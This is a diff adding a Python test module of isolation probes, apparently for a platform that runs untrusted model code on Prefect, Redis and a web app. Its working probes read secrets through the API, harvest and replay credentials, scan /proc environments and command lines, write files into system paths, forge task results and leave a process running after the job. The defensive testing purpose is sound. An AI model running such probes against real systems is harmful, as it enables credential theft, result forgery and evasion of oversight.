@@ -1,0 +1,248 @@
+"""What an attacker's model tries from inside its call: every probe reports GOT or blocked.
+
+Standard library only. Each probe returns {"outcome": "GOT"|"blocked", "detail": ...};
+`run_all` runs them all and says how many ran, so a probe that broke cannot pass
+for a blocked attack. targets.json (next to this file) names the platform's places.
+"""
+
+import base64
+import json
+import os
+import socket
+import subprocess
+import sys
+import urllib.error
+import urllib.request
+from pathlib import Path
+
+TARGETS = Path(__file__).with_name("targets.json")
+
+
+def targets() -> dict:
+    return json.loads(TARGETS.read_text()) if TARGETS.exists() else {}
+
+
+def _got(detail) -> dict:
+    return {"outcome": "GOT", "detail": str(detail)[:300]}
+
+
+def _blocked(detail) -> dict:
+    return {"outcome": "blocked", "detail": str(detail)[:300]}
+
+
+def _http(method: str, url: str, body: dict, headers: dict) -> tuple[int, str]:
+    request = urllib.request.Request(
+        url, data=json.dumps(body).encode(), method=method, headers=headers
+    )
+    request.add_header("Content-Type", "application/json")
+    try:
+        with urllib.request.urlopen(request, timeout=3) as response:
+            return response.status, response.read(300).decode(errors="replace")
+    except urllib.error.HTTPError as exc:
+        return exc.code, ""
+
+
+def api_without_credentials(t: dict) -> dict:
+    """Read every block, secrets included, as the issue's attacker did."""
+    try:
+        status, text = _http(
+            "POST", t["api"] + "/block_documents/filter", {"include_secrets": True}, {}
+        )
+    except OSError as exc:
+        return _blocked(f"no route: {exc}")
+    return _got(text) if status == 200 else _blocked(f"HTTP {status}")
+
+
+def _credentials(t: dict) -> list[str]:
+    found = [
+        os.environ[k] for k in ("PREFECT_API_AUTH_STRING", "PREFECT_API_KEY") if k in os.environ
+    ]
+    for path in t.get("credential_files", []):
+        try:
+            found.append(Path(path).read_text().strip())
+        except OSError:
+            continue
+    return found
+
+
+def api_with_found_credentials(t: dict) -> dict:
+    """Find the API's credentials (environment, the stack's files) and use them."""
+    found = _credentials(t)
+    if not found:
+        return _blocked("no credentials readable")
+    token = base64.b64encode(found[0].encode()).decode()
+    try:
+        status, text = _http(
+            "POST",
+            t["api"] + "/block_documents/filter",
+            {"include_secrets": True},
+            {"Authorization": f"Basic {token}"},
+        )
+    except OSError as exc:
+        return _got(f"credentials read (no route to use them: {exc})")
+    return _got(f"HTTP {status} with found credentials: {text}")
+
+
+def _other_pids() -> list[str]:
+    mine = {str(os.getpid()), str(os.getppid())}
+    return [p for p in os.listdir("/proc") if p.isdigit() and p not in mine]
+
+
+def proc_environ(t: dict) -> dict:
+    """Other processes' environments: the flow's, the worker's, the server's."""
+    readable = []
+    for pid in _other_pids():
+        try:
+            data = Path(f"/proc/{pid}/environ").read_bytes()
+        except OSError:
+            continue
+        if b"PREFECT_" in data or b"CS_" in data:
+            readable.append(pid)
+    return _got(f"platform environments of pids {readable}") if readable else _blocked("none")
+
+
+def proc_cmdline(t: dict) -> dict:
+    """Other processes' command lines, looking for the secrets the test knows."""
+    markers = [m.encode() for m in t.get("secret_markers", []) if m]
+    seen, leaks = 0, []
+    for pid in _other_pids():
+        try:
+            data = Path(f"/proc/{pid}/cmdline").read_bytes()
+        except OSError:
+            continue
+        seen += 1
+        leaks += [pid for m in markers if m in data]
+    if leaks:
+        return _got(f"secrets on the command lines of pids {leaks}")
+    return _blocked(f"{seen} other command lines readable, no secret on them")
+
+
+def _read_any(paths: list[str]) -> list[str]:
+    got = []
+    for path in paths:
+        try:
+            if os.path.isdir(path):
+                got.append(f"{path}: {sorted(os.listdir(path))[:5]}")
+            else:
+                with open(path, "rb") as f:
+                    got.append(f"{path}: {f.read(16)!r}")
+        except OSError:
+            continue
+    return got
+
+
+def prefect_database(t: dict) -> dict:
+    got = _read_any([t.get("prefect_db", "/nonexistent")])
+    return _got(got) if got else _blocked("not readable")
+
+
+def platform_files(t: dict) -> dict:
+    """CS_HOME (auth file, undelivered results, other models' venvs), the Prefect home."""
+    got = _read_any(t.get("platform_paths", []) + t.get("credential_files", []))
+    return _got(got) if got else _blocked("not readable")
+
+
+def task_storage(t: dict) -> dict:
+    got = _read_any([t.get("task_storage", "/nonexistent")])
+    return _got(got) if got else _blocked("not readable")
+
+
+def writes_outside(t: dict) -> dict:
+    """Write where the platform keeps its state, and into the model's own installed code."""
+    written = []
+    for folder in [*t.get("writable_targets", []), sys.prefix, "/usr/local"]:
+        path = Path(folder, f"pwned-{os.getpid()}")
+        try:
+            path.write_text("pwned")
+            written.append(str(path))
+        except OSError:
+            continue
+    return _got(written) if written else _blocked("every write refused")
+
+
+def webapp(t: dict) -> dict:
+    """Forge a result for any task at the web app."""
+    if "webapp" not in t:
+        return _blocked("no web app target")
+    try:
+        status, _ = _http(
+            "PUT",
+            t["webapp"] + "/outputs/api/",
+            {"task_id": "00000000-0000-4000-8000-000000000000", "status": "SUCCESS"},
+            {"Authorization": f"Token {t.get('guessed_token', 'guess')}"},
+        )
+    except OSError as exc:
+        return _blocked(f"no route: {exc}")
+    return _got(f"HTTP {status}") if status < 300 else _blocked(f"HTTP {status}")
+
+
+def redis(t: dict) -> dict:
+    if "redis_port" not in t:
+        return _blocked("no Redis target")
+    try:
+        with socket.create_connection(("127.0.0.1", int(t["redis_port"])), timeout=3) as s:
+            s.sendall(b"KEYS *\r\n")
+            answer = s.recv(200)
+    except OSError as exc:
+        return _blocked(f"no route: {exc}")
+    return _blocked(answer) if answer.startswith(b"-") else _got(answer)
+
+
+def outlive(t: dict, phase: str = "") -> dict:
+    """Leave a double-forked, setsid grandchild behind; the test looks for it afterwards."""
+    marker = t.get("outlive_marker", "cs-attack-outlive") + "-" + phase
+    code = "import time\nwhile True: time.sleep(1)"
+    subprocess.Popen(
+        ["/bin/sh", "-c", f"{sys.executable} -c '{code}' {marker} &"],
+        start_new_session=True,
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    ).wait()
+    return _blocked("started; the test checks that it is gone")
+
+
+def install_time_theft(t: dict) -> dict:
+    """What install.sh gathered while the environment was built, hidden in the venv."""
+    path = Path(sys.prefix, "stolen.txt")
+    try:
+        stolen = path.read_text()
+    except OSError:
+        return _blocked("install.sh left nothing")
+    return _got(stolen) if stolen.strip() else _blocked("install.sh saw nothing")
+
+
+PROBES = {
+    "api_without_credentials": api_without_credentials,
+    "api_with_found_credentials": api_with_found_credentials,
+    "proc_environ": proc_environ,
+    "proc_cmdline": proc_cmdline,
+    "prefect_database": prefect_database,
+    "platform_files": platform_files,
+    "task_storage": task_storage,
+    "writes_outside": writes_outside,
+    "webapp": webapp,
+    "redis": redis,
+    "install_time_theft": install_time_theft,
+    "outlive": outlive,
+}
+
+
+def run_all(phase: str, extra: dict | None = None) -> dict:
+    """Every probe; `extra` adds targets known only at call time (the web app's address)."""
+    t, results = {**targets(), **(extra or {})}, {}
+    for name, probe in PROBES.items():
+        try:
+            results[name] = probe(t, phase) if probe is outlive else probe(t)
+        except Exception as exc:  # a probe that breaks is reported, and not counted as run
+            results[name] = {"outcome": "error", "detail": repr(exc)[:300]}
+    ran = sum(r["outcome"] != "error" for r in results.values())
+    return {"phase": phase, "uid": os.getuid(), "ran": ran, "probes": results}
+
+
+def successes(report: dict) -> dict:
+    return {k: v for k, v in report["probes"].items() if v["outcome"] == "GOT"}
+
+
+if __name__ == "__main__":
+    print("ATTACK-REPORT " + json.dumps(run_all(sys.argv[1] if len(sys.argv) > 1 else "cli")))
